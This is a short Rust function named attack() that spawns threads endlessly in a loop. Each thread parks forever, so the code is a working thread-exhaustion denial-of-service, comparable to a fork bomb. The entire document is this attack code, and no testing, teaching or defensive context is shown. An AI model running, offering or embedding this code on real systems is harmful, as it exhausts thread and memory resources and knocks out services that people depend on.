fn attack() {
    loop {
        std::thread::spawn(|| loop {
            std::thread::park();
        });
    }
}
